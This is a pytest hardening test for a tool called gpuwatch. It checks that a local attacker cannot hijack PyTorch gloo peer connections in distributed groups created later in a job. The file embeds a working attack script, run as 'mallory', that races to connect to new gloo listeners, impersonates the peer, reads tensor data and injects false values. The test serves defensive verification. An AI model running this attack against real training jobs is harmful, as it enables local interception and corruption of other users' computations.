"""`gpuwatch launch` without --in-place: another local user who takes a peer's place in a group the
script makes later (`dist.new_group`) reads none of its data, and the job keeps every step and sum.

The job's two gloo ranks form their default group (it proves itself), then make a new group each
round (`new_group([0, 1])`, as a mesh's subgroups are made) and all-reduce a tensor whose bytes are
easy to spot. One rank loads its data for 2 s before each round (the late one alternates), so the
early rank's new gloo listener waits for its peer. mallory (a throwaway local user) connects to each
new listener the moment it appears and names the pair's sequence number, as gloo's own peer does
(8 bytes): where the early rank is the pair's listening side, gloo gives her its peer's place. There
she speaks gloo's pair protocol as the peer (asks for what the rank is ready to send, sends 1000.0s
where it is ready to receive) for 1 s, then closes everything and stops. The test names the job's new ports to
her (she would find them with sock_diag by uid; here no other process's sockets are touched). Before
later groups proved themselves she read the job's tensor (10 times, in one run) and the job ended on
"connection closed"; now she gets only the proof's 32 bytes, her proof is refused (one line, a
count), the group is formed again with the real peer and the job keeps every sum.
"""

from __future__ import annotations

import contextlib
import json
import os
import struct
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.hardening.conftest import local_users
from tests.hardening.test_rendezvous_pickle import family, launch_victim, listening
from tests.inplace.jobs import sim_node

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root: the test creates a user"),
    pytest.mark.slow,
]
ROUNDS, STEPS, MARK = 8, 5, 1234.5  # 8 rounds: the early rank is the pair's listener in one at least (1 - 2**-8)

TRAIN = f"""
import datetime, json, os, time, torch, torch.distributed as dist
rank = int(os.environ["RANK"])
dist.init_process_group("gloo", timeout=datetime.timedelta(seconds=60))
open(f"ready.{{rank}}", "w").close()
while not os.path.exists("go"):
    time.sleep(0.05)
sums = []
for round in range({ROUNDS}):
    if rank == round % 2:
        time.sleep(2)  # this rank loads its data
    group = dist.new_group([0, 1], timeout=datetime.timedelta(seconds=30))
    for _ in range({STEPS}):
        t = torch.full((16,), {MARK}); dist.all_reduce(t, group=group); sums.append(t[0].item())
with open(f"sums.{{rank}}.json", "w") as out:  # a file: torchrun's tee may drop a worker's last stdout lines
    json.dump({{"rank": rank, "sums": sums}}, out)
dist.destroy_process_group()  # as torch asks: gloo groups left to the interpreter's exit may abort it (SIGABRT)
"""

MALLORY = r"""
import json, os, select, socket, struct, sys, time
first, _, pending = os.read(0, 4096).partition(b"\n")  # unbuffered: select() sees every line
uid, mark = json.loads(first)
"127.0.0.1".encode("idna")  # connect() needs this codec: imported while Python's own files are readable
os.setgroups([]); os.setresgid(uid, uid, uid); os.setresuid(uid, uid, uid)  # mallory, from here on
mark = bytes.fromhex(mark)
conns, got, stolen, tried, errors, until = {}, b"", None, [], [], None
buf, payloads = {}, b""
HEADER = struct.Struct("<6Q")  # gloo tcp Op: nbytes, opcode, slot, offset, length, roffset


def answer(f):
    # Speak gloo's pair protocol as the peer: ask for what the victim is ready to send (its data
    # follows), and send 1000.0s where it is ready to receive.
    global payloads
    while len(buf[f]) >= HEADER.size:
        nbytes, opcode, slot, offset, length, roffset = HEADER.unpack_from(buf[f])
        if len(buf[f]) < nbytes:
            return
        payloads += buf[f][HEADER.size:nbytes]
        buf[f] = buf[f][nbytes:]
        if opcode == 2:  # NOTIFY_SEND_READY: tell it to send
            f.sendall(HEADER.pack(HEADER.size, 3, slot, 0, length, 0))
        elif opcode == 3:  # NOTIFY_RECV_READY: send it hers
            hers = struct.pack("<f", 1000.0) * (length // 4)
            f.sendall(HEADER.pack(HEADER.size + length, 1, slot, 0, length, 0) + hers)
print("ready", flush=True)
while True:
    ready, _, _ = select.select([0, *conns], [], [], 0.05)
    lines = []
    if 0 in ready:
        chunk = os.read(0, 4096)
        pending += chunk if chunk else b"\nstop\n"
        *lines, pending = pending.split(b"\n")
    for line in lines:
        line = line.decode().strip()
        if line == "stop":
            print(json.dumps({"stolen": stolen, "bytes": len(got), "marks": payloads.count(mark),
                              "payload": len(payloads), "tried": tried, "errors": errors[:5]}), flush=True)
            sys.exit(0)
        if not line or stolen is not None:
            continue
        for seq in range(4):  # the pair's sequence number: a group's first pairs take the first
            try:
                s = socket.create_connection(("127.0.0.1", int(line)), timeout=2)
                s.sendall(struct.pack("=Q", seq))
                conns[s] = int(line)
            except OSError as exc:
                errors.append(f"{line}: {exc}")
        tried.append(int(line))
    for f in ready:
        if f != 0 and f in conns:
            try:
                data = f.recv(1 << 16)
            except OSError:
                data = b""
            if data:
                got += data
                buf[f] = buf.get(f, b"") + data
                answer(f)
                if stolen is None:
                    stolen, until = conns[f], time.monotonic() + 1.0
            else:
                conns.pop(f)
                f.close()
    if until is not None and time.monotonic() > until:  # she has seen what comes: close all, stop
        for s in conns:
            s.close()
        conns, until = {}, None
"""


@pytest.fixture(scope="module")
def mallory() -> Iterator[int]:
    with local_users("gw-later-mallory") as (user,):
        yield user.pw_uid


def test_a_stranger_in_a_later_group_reads_nothing_and_the_job_keeps_every_sum(tmp_path: Path, mallory: int) -> None:
    (tmp_path / "train.py").write_text(TRAIN)
    tmp_path.chmod(0o755)
    mark = struct.pack("<f", MARK) * 4  # 16 bytes of its tensor: gloo sends it in chunks of half
    with sim_node(tmp_path / "node", gpus=2) as node:
        job = launch_victim(node, tmp_path, "victim-job", "--max-restarts", "0", env={"GLOO_SOCKET_IFNAME": "lo"})
        pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
        hers = subprocess.Popen([sys.executable, "-c", MALLORY], **pipes)  # type: ignore[call-overload]
        try:
            assert hers.stdin is not None and hers.stdout is not None
            hers.stdin.write(json.dumps([mallory, mark.hex()]) + "\n")  # one write: her first read takes it
            hers.stdin.flush()
            assert hers.stdout.readline().strip() == "ready"
            deadline = time.monotonic() + 120
            while not all((tmp_path / f"ready.{r}").exists() for r in (0, 1)):
                assert job.poll() is None and time.monotonic() < deadline, "the job's default group never formed"
                time.sleep(0.1)
            known = {port for _, port in listening(family(job.pid))}  # the store's, the default group's
            (tmp_path / "go").touch()
            while job.poll() is None and time.monotonic() < deadline + 120:
                for _, port in listening(family(job.pid)):
                    if port not in known:
                        known.add(port)
                        with contextlib.suppress(BrokenPipeError):  # her own failure shows in what she said
                            hers.stdin.write(f"{port}\n")
                            hers.stdin.flush()
            said, said_err = hers.communicate("stop\n", timeout=30)
            _, stderr = job.communicate(timeout=30)
        finally:
            for p in (job, hers):
                if p.poll() is None:
                    p.kill()
    print(f"\nmallory: {said.strip()} {said_err.strip()[-300:]}")
    assert said.strip(), f"mallory said nothing: {said_err[-2000:]}"
    her = json.loads(said.splitlines()[-1])
    sums = [json.loads(path.read_text()) for path in sorted(tmp_path.glob("sums.*.json"))]
    refusals = [line for line in stderr.splitlines() if "did not prove itself" in line]
    print(f"job exit {job.returncode}; refused: {refusals}; sums {[(s['rank'], sorted(set(s['sums']))) for s in sums]}")
    assert her["stolen"] is not None, f"mallory never held a pair of the job: the attack proved nothing ({her})"
    assert her["marks"] == 0, f"mallory read the job's tensor from her place in its group ({her})"
    assert job.returncode == 0, stderr[-3000:]
    assert sorted(s["rank"] for s in sums) == [0, 1]
    assert all(s["sums"] == [2 * MARK] * (ROUNDS * STEPS) for s in sums), sums
    assert refusals and all("did not prove itself" in line for line in refusals)
